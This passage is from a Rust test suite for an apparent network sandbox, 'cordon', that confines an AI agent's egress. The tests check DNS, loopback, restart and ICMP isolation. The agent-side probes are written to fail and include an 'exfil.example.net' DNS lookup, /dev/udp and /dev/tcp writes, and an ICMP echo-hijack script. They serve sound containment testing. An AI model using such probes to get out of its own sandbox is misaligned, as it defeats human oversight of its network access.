    let cfg = TestConfig { network: format!("upstream = [\"{WORLD_V4}\"]\n"), ..TestConfig::default() };
    let c = boot(&sb, &cfg);
    // Docker's embedded resolver answers on 127.0.0.11 at a random high port (127.0.0.11:53 is
    // a NAT redirect there): a root-owned UDP server on 127.0.0.11:45353 stands for it.
    let log = sb.path("ws/resolver.log");
    spawn_detached(
        &c,
        false,
        &python(&sb, "udprecv.py", UDP_RECORD_PY, &format!("127.0.0.11 45353 {} 30", log.display())),
    );
    let got = || String::from_utf8_lossy(&std::fs::read(c.inside(&log)).unwrap_or_default()).into_owned();
    harness::wait_until("root reaching the stand-in resolver (the control)", Duration::from_secs(10), || {
        c.exec("echo root-query > /dev/udp/127.0.0.11/45353");
        got().contains("root-query").then_some(())
    });
    let out = dig(&c, "@127.0.0.11 -p 45353 exfil.example.net A");
    assert_ne!(status_of(&out), "NOERROR", "{out}");
    c.agent_exec("echo agent-udp > /dev/udp/127.0.0.11/45353; echo agent-udp53 > /dev/udp/127.0.0.11/53");
    spawn_detached(&c, false, &python(&sb, "greet.py", GREET_PY, "127.0.0.11 45354 30"));
    wait_listening(&c, &sb, "127.0.0.11", 45354);
    let tcp = agent_connect(&c, &sb, "127.0.0.11", 45354);
    assert_eq!(tcp, "ConnectionRefusedError", "TCP to Docker's resolver address");
    std::thread::sleep(Duration::from_millis(300));
    let seen = got();
    assert!(!seen.contains("exfil") && !seen.contains("agent-"), "the agent reached 127.0.0.11: {seen}");
    // The second resolver of resolv.conf is refused on every port, even where its address was
    // admitted for an allowed name.
    let out = dig(&c, "@127.0.0.53 resolver.example.com A");
    assert!(out.contains("198.51.100.53"), "{out}");
    let err = connect(&c, "198.51.100.53", true).expect_err("the agent reached a resolver of resolv.conf");
    assert!(err.contains("Connection refused"), "{err}");
    // The positive control: the allowed name itself still works through cordon.
    assert_eq!(status_of(&dig(&c, "@127.0.0.53 api.example.com A")), "NOERROR");
}

#[test]
fn on_loopback_the_agent_reaches_only_cordons_dns_and_the_listed_ports() {
    let sb = Sandbox::new("loopback");
    let _w = world(&sb, "api.example.com\n", &[]);
    let cfg = TestConfig { network: "loopback_ports = [3000, \"8000-8099\"]\n".into(), ..TestConfig::default() };
    let c = boot(&sb, &cfg);
    let greet = |as_agent: bool, addr: &str, port: u16| {
        spawn_detached(&c, as_agent, &python(&sb, "greet.py", GREET_PY, &format!("{addr} {port} 30")));
        wait_listening(&c, &sb, addr, port);
    };
    // Root's services, on loopback and on the container's own address.
    greet(false, "127.0.0.1", 7000);
    greet(false, harness::CORDON_V4, 7001);
    greet(false, "::1", 7002);
    greet(false, "127.0.0.1", 3000);
    // The agent's own servers: one on a listed port, one not.
    greet(true, "127.0.0.1", 8050);
    greet(true, "127.0.0.1", 9000);

    assert_eq!(agent_connect(&c, &sb, "127.0.0.1", 7000), "ConnectionRefusedError", "root's service on 127.0.0.1");
    assert_eq!(
        agent_connect(&c, &sb, harness::CORDON_V4, 7001),
        "ConnectionRefusedError",
        "the container's own address"
    );
    assert_eq!(agent_connect(&c, &sb, "::1", 7002), "ConnectionRefusedError", "root's service on ::1");
    assert_eq!(
        agent_connect(&c, &sb, "127.0.0.1", 9000),
        "ConnectionRefusedError",
        "its own server on an unlisted port"
    );
    assert_eq!(agent_connect(&c, &sb, "127.0.0.1", 3000), "hi 3000", "a listed port");
    assert_eq!(agent_connect(&c, &sb, "127.0.0.1", 8050), "hi 8050", "a port in a listed range");
    // Replies of the agent's listening sockets to connections root opens still flow.
    let out = c.exec(&python(&sb, "connect.py", CONNECT_PY, "127.0.0.1 9000"));
    assert_eq!(String::from_utf8_lossy(&out.stdout).trim(), "hi 9000");
    // And cordon's DNS listener is reachable.
    assert_eq!(status_of(&dig(&c, "@127.0.0.53 api.example.com A")), "NXDOMAIN");
}

/// Runs a command in the sandbox's inner network namespace, from the host (as root).
fn in_inner(sb: &Sandbox, cmd: &str) -> String {
    let out = std::process::Command::new("ip")
        .args(["netns", "exec", &sb.net.inner, "sh", "-c", cmd])
        .output()
        .expect("ip netns exec");
    assert!(out.status.success(), "{cmd}: {}", String::from_utf8_lossy(&out.stderr));
    String::from_utf8_lossy(&out.stdout).into_owned()
}

/// Boots cordon, ends it with `signal`, then boots another in the same network namespace with
/// other timeouts and ports (as Kubernetes restarts a container in its pod's namespace after a
/// ConfigMap change), and checks the second runs on the new parameters only.
fn restart_in_the_same_netns_with_a_changed_config(signal: nix::sys::signal::Signal) {
    let sb = Sandbox::new(if signal == nix::sys::signal::Signal::SIGKILL { "crash" } else { "restart" });
    let w = world(&sb, "api.example.com\n", &["192.0.2.10"]);
    let _alt = Greeter::start(&sb.net.world, "192.0.2.10:8443".parse().unwrap());
    w.dns.set("api.example.com", vec![ip("192.0.2.10")]);
    let mut c = boot(&sb, &TestConfig::default());
    assert_eq!(connect(&c, "api.example.com", true).unwrap(), "hello from 192.0.2.10:443");
    assert!(in_inner(&sb, "ipset list -t cordon4").contains("timeout 360"));
    c.kill(c.reaper(), signal);
    c.wait_exit(BOOT);
    drop(c);
    assert!(in_inner(&sb, "ipset list -n").contains("cordon4"), "the first run's sets outlive it in the netns");
    assert!(in_inner(&sb, "iptables -S OUTPUT").contains("-j CORDON"), "and its jump");

    // The runtime gives the new container a fresh resolv.conf; the netns keeps the firewall.
    sb.write_file("resolv.conf", &format!("nameserver {WORLD_V4}\n"));
    sb.write_file("domains.conf", "api.example.com:8443\n");
    let cfg =
        TestConfig { network: "min_ttl = \"20s\"\ngrace = \"10s\"\nports = [80]\n".into(), ..TestConfig::default() };
    let c = boot(&sb, &cfg);
    for tool in ["iptables", "ip6tables"] {
        let output = in_inner(&sb, &format!("{tool} -S OUTPUT"));
        let ours: Vec<&str> = output.lines().filter(|l| l.contains("CORDON")).collect();
        assert_eq!(ours, ["-A OUTPUT -j CORDON_OUTPUT"], "{tool}: exactly one jump");
        let chain = in_inner(&sb, &format!("{tool} -S CORDON_AGENT"));
        assert!(chain.contains("--dports 80 ") && !chain.contains("80,443"), "{tool}: the new ports: {chain}");
    }
    let sets = in_inner(&sb, "ipset list -t");
    assert!(sets.contains("Name: cordon4-p8443"), "{sets}");
    assert_eq!(sets.matches("timeout 30 ").count(), 4, "every set has the new timeout: {sets}");
    assert!(!in_inner(&sb, "ipset list cordon4").contains("192.0.2.10"), "old admissions are gone");
    // Denied: the port of the old config; allowed: the new entry's port.
    let err = connect(&c, "192.0.2.10", true).expect_err("the old config's port");
    assert!(err.contains("Connection refused"), "{err}");
    let greeting = c.agent_exec("timeout 5 bash -c 'exec 3<>/dev/tcp/api.example.com/8443 && head -n1 <&3'");
    assert_eq!(String::from_utf8_lossy(&greeting.stdout).trim(), "hello from 192.0.2.10:8443");
}

#[test]
fn a_restart_in_the_same_network_namespace_with_a_changed_config_boots_with_the_new_parameters() {
    restart_in_the_same_netns_with_a_changed_config(nix::sys::signal::Signal::SIGTERM);
}

#[test]
fn a_boot_after_a_crash_that_left_the_firewall_behind_replaces_it() {
    restart_in_the_same_netns_with_a_changed_config(nix::sys::signal::Signal::SIGKILL);
}

#[test]
fn a_runtime_without_ip6tables_fails_the_firewall_stage_and_leaves_no_partial_policy() {
    let sb = Sandbox::new("nonetfilter");
    let _w = world(&sb, "api.example.com\n", &[]);
    let cfg = sb.write_config(&TestConfig {
        on_boot_failure: "hold",
        agent_command: "touch started; exec sleep 1000".into(),
        ..TestConfig::default()
    });
    // What iptables-nft prints under gVisor, first on cordon's PATH (/usr/local/sbin), in
    // cordon's mount namespace only: the IPv4 side works, the IPv6 side fails after it.
    let fake = "ip6tables-restore v1.8.9 (nf_tables): Could not fetch rule set generation id: Protocol not supported";
    let before = format!(
        "mount -t tmpfs -o size=1m tmpfs /usr/local/sbin\nprintf '#!/bin/sh\\ncat >/dev/null\\necho \"{fake}\" >&2\\nexit 1\\n' > /usr/local/sbin/ip6tables-restore\nchmod 755 /usr/local/sbin/ip6tables-restore"
    );
    let mut c = sb.launch(&cfg, &[], Mode::Pid1, &before);
    let state = c.wait_phase(Phase::Failed, BOOT);
    let failed = state.stages.last().unwrap();
    assert_eq!(failed.name, "firewall", "{state:?}");
    let error = failed.error.as_deref().unwrap();
    assert!(
        error.contains("does not provide the netfilter support") && error.contains("Protocol not supported"),
        "{error}"
    );
    assert!(!error.contains('\n'), "one line: {error}");
    let hint = failed.hint.as_deref().unwrap();
    assert!(hint.contains("lacks netfilter") && !hint.contains("NET_ADMIN"), "{hint}");
    for tool in ["iptables", "ip6tables"] {
        let all = in_inner(&sb, &format!("{tool} -S"));
        assert!(!all.contains("CORDON"), "{tool} kept part of the policy: {all}");
    }
    assert_eq!(in_inner(&sb, "ipset list -n").trim(), "", "cordon's sets were left");
    assert!(!c.inside(&sb.path("ws/started")).exists(), "the agent started without a firewall");
    c.kill(c.reaper(), nix::sys::signal::Signal::SIGTERM);
    assert_eq!(c.wait_exit(BOOT).code(), Some(1));
}

/// `ping.py IDENT DEST PAYLOAD COUNT INTERVAL`: ICMP echo requests from an unprivileged ping
/// socket bound to echo identifier IDENT (SO_REUSEADDR), carrying PAYLOAD.
const PING_PY: &str = r#"
import socket, struct, sys, time
ident, dest, payload, count, interval = int(sys.argv[1]), sys.argv[2], sys.argv[3].encode(), int(sys.argv[4]), float(sys.argv[5])
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP)
s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
s.bind(("0.0.0.0", ident))
s.setblocking(False)
for seq in range(count):
    try:
        s.sendto(struct.pack("!BBHHH", 8, 0, 0, ident, seq) + payload, (dest, 0))
    except OSError:
        pass
    time.sleep(interval)
    try:
        while True: s.recv(2048)
    except OSError:
        pass
print("done")
"#;

#[test]
fn the_agent_cannot_send_echo_requests_on_roots_icmp_echo_flow() {
    let sb = Sandbox::new("icmphijack");
    let _w = world(&sb, "api.example.com\n", &["198.51.100.8"]);
    let c = boot(&sb, &TestConfig::default());
    // Unprivileged ping sockets for every group (Docker's default since 20.10).
    in_inner(&sb, "sysctl -qw net.ipv4.ping_group_range='0 2147483647'");
    let (root_marker, agent_marker) = ("524f4f5450494e47", "48494a41434b"); // ROOTPING, HIJACK
    let sniff = sb.write_file("sniff.py", SNIFF_PY);
    let mut capture = std::process::Command::new("ip")
        .args(["netns", "exec", &sb.net.world, "timeout", "20", "python3"])
        .arg(&sniff)
        .args(["5", root_marker, agent_marker])
        .stdout(std::process::Stdio::piped())
        .spawn()
        .expect("start the capture in the world");
    let mut stdout = std::io::BufReader::new(capture.stdout.take().unwrap());
    let mut line = String::new();
    std::io::BufRead::read_line(&mut stdout, &mut line).unwrap();
    assert_eq!(line.trim(), "ready");
    spawn_detached(&c, false, &python(&sb, "ping.py", PING_PY, "777 198.51.100.8 ROOTPING 45 0.1"));
    std::thread::sleep(Duration::from_millis(800));
    let out = c.agent_exec(&python(&sb, "ping.py", PING_PY, "777 198.51.100.8 HIJACK 20 0.05"));
    assert_eq!(String::from_utf8_lossy(&out.stdout).trim(), "done", "{}", String::from_utf8_lossy(&out.stderr));
    assert!(capture.wait().unwrap().success());
    let mut found = String::new();
    std::io::Read::read_to_string(&mut stdout, &mut found).unwrap();
    assert!(found.contains(root_marker), "root's echo flow reached the world (the control): {found:?}");
    assert!(!found.contains(agent_marker), "the agent's echo request rode root's flow out");
}
